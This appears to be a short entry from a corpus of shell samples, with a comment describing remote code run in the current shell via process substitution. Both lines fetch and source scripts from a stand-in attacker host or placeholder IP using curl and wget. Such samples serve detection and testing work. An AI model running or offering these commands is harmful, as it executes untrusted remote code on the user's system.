# corpus: source <(curl ...) running remote code in the current shell without a pipe to sh
source <(curl -s https://evil.example.net/env.sh)
. <(wget -qO- http://203.0.113.7/more.sh)
